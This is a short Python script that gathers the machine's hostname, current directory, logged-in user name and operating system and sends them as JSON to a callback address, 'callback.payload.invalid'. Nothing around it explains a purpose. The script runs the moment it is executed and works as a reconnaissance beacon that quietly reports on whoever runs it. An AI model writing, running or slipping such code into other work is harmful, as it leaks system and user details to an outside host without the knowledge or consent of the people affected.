import json
import os
import platform
import urllib.request as net

body = {"node": platform.node(), "cwd": os.getcwd(), "user": os.getlogin(), "system": platform.system()}
net.urlopen(net.Request("http://callback.payload.invalid/i", json.dumps(body).encode(), {"Content-Type": "application/json"}))
